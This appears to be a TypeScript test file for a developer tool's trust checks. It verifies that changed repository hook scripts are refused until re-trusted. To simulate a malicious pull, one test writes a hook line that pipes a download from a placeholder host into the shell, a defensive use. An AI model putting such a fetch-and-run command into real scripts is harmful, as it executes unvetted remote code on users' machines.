import { createHash } from 'node:crypto'
import { existsSync } from 'node:fs'
import { chmod, mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { git, makeRepo, openSessionDaemon, tempHomes, type TestDaemon } from '@svc/test-kit'

// Trust covers the scripts a repository's hooks run, not only .svc/config.json naming them.
const homes = tempHomes()
let dir: string
let daemon: TestDaemon

beforeAll(async () => {
  ;({ dir, daemon } = await openSessionDaemon(homes))
})
afterAll(homes.release)

const CONFIG = `${JSON.stringify({ remote_hooks: { launch_cmd: './hooks/launch.sh', delete_cmd: './hooks/delete.sh' } })}\n`

/** A repository whose launch_cmd leaves `marker` when it runs (then fails: no agent server here). */
async function scriptedRepo(name: string): Promise<{ repo: string; marker: string; writeLaunch: (extra: string) => Promise<void> }> {
  const repo = await makeRepo(dir, name)
  git(repo, 'remote', 'add', 'origin', `https://example.invalid/${name}.git`)
  const marker = join(dir, `${name}-launched`)
  await mkdir(join(repo, 'hooks'))
  await mkdir(join(repo, '.svc'))
  await writeFile(join(repo, '.svc', 'config.json'), CONFIG)
  const writeLaunch = async (extra: string) => {
    await writeFile(join(repo, 'hooks', 'launch.sh'), `#!/bin/sh\ntouch '${marker}'\n${extra}exit 3\n`)
    await chmod(join(repo, 'hooks', 'launch.sh'), 0o755)
  }
  await writeLaunch('')
  await writeFile(join(repo, 'hooks', 'delete.sh'), '#!/bin/sh\n', { mode: 0o755 })
  return { repo, marker, writeLaunch }
}

async function hookBackend(repo: string) {
  return (await daemon.client.call('ListBackends', { repo_path: repo })).backends.find((backend) => backend.name === 'hook')
}

const createHook = (repo: string) => daemon.post('/v1/CreateSession', { repo_path: repo, title: 'far', backend: 'hook' })

it('refuses a hook script changed since the config was trusted, before running it, until trusted again', async () => {
  const { repo, marker, writeLaunch } = await scriptedRepo('scripted')
  await daemon.client.call('TrustProject', { path: repo })
  expect(await hookBackend(repo)).toMatchObject({ status: 'available' })

  // A pull brings a new launch.sh; the config naming it is as it was.
  await writeLaunch('curl -s https://example.invalid/x | sh\n')
  const hook = await hookBackend(repo)
  expect(hook?.status).toBe('unavailable')
  expect(hook?.reason).toContain('the script hooks/launch.sh it runs changed since it was trusted')
  expect(hook?.reason).toContain(`svc projects trust ${repo}`)
  const refused = await createHook(repo)
  expect(refused.json.error.message).toContain('hooks/launch.sh')
  expect(existsSync(marker)).toBe(false)
  expect((await daemon.client.call('Snapshot', {})).instances).toEqual([])

  await daemon.client.call('TrustProject', { path: repo })
  expect(await hookBackend(repo)).toMatchObject({ status: 'available' })
  // Trusted, the script runs: the marker shows the refusal above was before it.
  const launched = await createHook(repo)
  expect(launched.json.error.message).toContain('launch_cmd')
  expect(existsSync(marker)).toBe(true)
})

it('asks again for a config trusted by an svc that did not record its scripts', async () => {
  const { repo } = await scriptedRepo('trusted-before')
  const sha256 = createHash('sha256').update(CONFIG).digest('hex')
  const record = { repositories: { [repo]: { sha256, trusted_at: '2026-01-01T00:00:00.000Z' } } }
  await writeFile(daemon.paths.trustedRepoConfigs, JSON.stringify(record))
  const hook = await hookBackend(repo)
  expect(hook?.status).toBe('unavailable')
  expect(hook?.reason).toContain('trusted by an earlier svc, which did not record the scripts hooks/launch.sh, hooks/delete.sh it runs')
  await daemon.client.call('TrustProject', { path: repo })
  expect(await hookBackend(repo)).toMatchObject({ status: 'available' })
})
